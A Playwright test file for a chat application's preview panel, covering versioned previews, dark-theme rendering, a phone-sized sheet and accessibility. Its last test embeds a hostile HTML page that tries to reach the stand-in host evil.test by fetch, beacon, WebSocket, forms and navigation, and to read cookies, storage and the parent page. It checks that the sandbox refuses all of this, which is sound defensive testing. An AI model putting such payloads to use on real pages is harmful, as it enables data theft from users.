import type { Frame, Page } from '@playwright/test';

import { expectAccessible } from '../fixtures/accessibility.ts';
import { settings } from '../fixtures/names.ts';
import { expect, test } from '../fixtures/test.ts';

const fenced = (language: string, source: string): string =>
  `Here it is.\n\n\`\`\`${language}\n${source}\n\`\`\`\n`;

const clock = (text: string): string =>
  `<title>Clock</title><p id="t"></p><script>document.getElementById("t").textContent = "${text}"</script>`;

async function previewFrame(page: Page): Promise<Frame> {
  const handle = await page.locator('iframe[title="Preview"]').elementHandle();
  const frame = await handle?.contentFrame();
  if (frame === null || frame === undefined) throw new Error('There is no preview');
  return frame;
}

test.beforeEach(async ({ parley }) => {
  await parley.setUp();
});

test('a page runs beside the chat, in versions, and closes by Escape', async ({
  parley,
  fake,
  page,
}) => {
  fake.set({ text: fenced('html', clock('first')) });
  await parley.ask('A page');
  await parley.lastReply.getByRole('button', { name: 'Preview' }).press('Enter');
  const panel = page.getByRole('complementary', { name: 'Preview' });
  const shown = page.frameLocator('iframe[title="Preview"]').locator('#t');
  await expect(shown).toHaveText('first');
  await expectAccessible(page, 'a preview');
  fake.set({ text: fenced('html', clock('second')) });
  await parley.ask('Change it');
  const newer = panel.getByRole('button', { name: 'Newer version' });
  await expect(newer).toBeEnabled();
  await expect(shown).toHaveText('first');
  await newer.click();
  await expect(shown).toHaveText('second');
  await panel.getByRole('button', { name: 'Older version' }).click();
  await expect(shown).toHaveText('first');
  await panel.getByRole('radio', { name: 'Code' }).check();
  await expect(panel.locator('pre')).toContainText('<title>Clock</title>');
  await panel.getByRole('button', { name: 'Close preview' }).press('Escape');
  await expect(panel).toBeHidden();
});

/** Ground and text of the page that is shown. */
async function paintedAs(page: Page): Promise<{ ground: string; text: string }> {
  const { width, height } = { width: 4, height: 4 };
  const box = await page.locator('iframe[title="Preview"]').boundingBox();
  const clip = { x: (box?.x ?? 0) + 300, y: (box?.y ?? 0) + 300, width, height };
  const shot = (await page.screenshot({ clip })).toString('base64');
  const ground = await page.evaluate(async (png) => {
    const bytes = Uint8Array.from(atob(png), (letter) => letter.charCodeAt(0));
    const picture = await createImageBitmap(new Blob([bytes]));
    const canvas = new OffscreenCanvas(picture.width, picture.height).getContext('2d');
    canvas?.drawImage(picture, 0, 0);
    const [red = 0] = canvas?.getImageData(1, 1, 1, 1).data ?? [];
    return red < 80 ? 'dark' : 'light';
  }, shot);
  const text = await (
    await previewFrame(page)
  ).evaluate(() => getComputedStyle(document.body).color);
  return { ground, text };
}

test.describe('in the dark theme', () => {
  test.use({ colorScheme: 'dark' });

  const white = 'rgb(255, 255, 255)';
  const black = 'rgb(0, 0, 0)';
  const pages: readonly (readonly [
    what: string,
    kind: string,
    source: string,
    ground: string,
    text: string,
  ])[] = [
    ['a page without colours is dark', 'html', '<p>Plain</p>', 'dark', white],
    [
      'a page with colours of its own keeps its white',
      'html',
      '<p style="color:#123">x</p>',
      'light',
      black,
    ],
    [
      'a drawing keeps its white',
      'svg',
      '<svg viewBox="0 0 9 9"><circle r="1"/></svg>',
      'light',
      black,
    ],
    ['a diagram has the ground that it was drawn for', 'mermaid', 'graph LR; a-->b', 'dark', white],
  ];
  for (const [what, kind, source, ground, text] of pages) {
    test(what, async ({ parley, fake, page }) => {
      fake.set({ text: fenced(kind, source) });
      await parley.ask('Show it');
      await parley.lastReply.getByRole('button', { name: 'Preview' }).click();
      await expect.poll(() => paintedAs(page)).toEqual({ ground, text });
    });
  }
});

test('on a phone a preview is an accessible sheet', async ({ parley, fake, page }) => {
  await page.setViewportSize({ width: 390, height: 844 });
  fake.set({ text: fenced('svg', '<svg viewBox="0 0 9 9"><circle r="4"/></svg>') });
  const reply = await parley.ask('A drawing');
  await reply.getByRole('button', { name: 'Preview' }).click();
  const sheet = page.getByRole('dialog', { name: 'Preview' });
  await expect(page.frameLocator('iframe[title="Preview"]').locator('circle')).toBeAttached();
  await expectAccessible(page, 'a preview on a phone');
  await sheet.getByRole('button', { name: settings.close }).click();
  await expect(sheet).toBeHidden();
});

test('a hostile page reaches no network, no storage and no part of the program', async ({
  parley,
  fake,
  page,
  trap,
  guards,
}) => {
  // The browser reports what the policy refuses, and requests that it never sends.
  guards.expectText(/^console: /);
  guards.expectText(/evil\.test/);
  // By http, where the trap sees requests: the browser may open a connection for a visit that it
  // then refuses, which decision 024 names.
  const hostile = [
    '<img src="http://evil.test/img"><link rel="stylesheet" href="http://evil.test/css">',
    '<link rel="preconnect" href="http://evil.test"><iframe src="http://evil.test/frame"></iframe>',
    '<meta http-equiv="refresh" content="3;url=http://evil.test/refresh">',
    '<form id="f" action="http://evil.test/form" method="post"></form>',
    '<script>',
    'const out = {};',
    'const attempt = (name, run) => { try { out[name] = String(run()); } catch (error) { out[name] = "refused"; } };',
    'attempt("parent", () => parent.document.title);',
    'attempt("top", () => { top.location.href = "http://evil.test/top"; return "gone"; });',
    'attempt("local", () => localStorage.length);',
    'attempt("cookie", () => document.cookie);',
    'attempt("popup", () => window.open("http://evil.test/popup"));',
    'attempt("form", () => { document.getElementById("f").submit(); return "asked"; });',
    'attempt("beacon", () => navigator.sendBeacon("http://evil.test/beacon", "x"));',
    'attempt("socket", () => { new WebSocket("ws://evil.test/socket"); return "asked"; });',
    'const later = (name, promise) => promise.then(() => { out[name] = "reached"; }, () => { out[name] = "refused"; });',
    'const database = () => new Promise((done, fail) => { const request = indexedDB.open("parley"); request.onsuccess = done; request.onerror = fail; });',
    'Promise.all([later("fetch", fetch("http://evil.test/fetch")), later("own", fetch("/config.json")), later("database", new Promise((done) => done(database())))])',
    '.then(() => { window.results = out; });',
    '</script>',
  ].join('\n');
  fake.set({ text: fenced('html', hostile) });
  const reply = await parley.ask('Be evil');
  await reply.getByRole('button', { name: 'Preview' }).click();
  const frame = await previewFrame(page);
  await frame.waitForFunction(() => 'results' in window);
  const results = await frame.evaluate(
    () => (globalThis as unknown as { results: Record<string, string> }).results,
  );
  expect(results).toMatchObject({
    parent: 'refused',
    top: 'refused',
    local: 'refused',
    cookie: 'refused',
    fetch: 'refused',
    own: 'refused',
    database: 'refused',
  });
  // Last, the frame tries to carry something out by going there itself.
  await frame.evaluate(() => {
    location.href = 'http://evil.test/self?stolen';
  });
  await expect(page.getByRole('textbox', { name: 'Message', exact: true })).toBeVisible();
  await parley.ask('Still here?');
  expect(trap.hits()).toEqual([]);
});
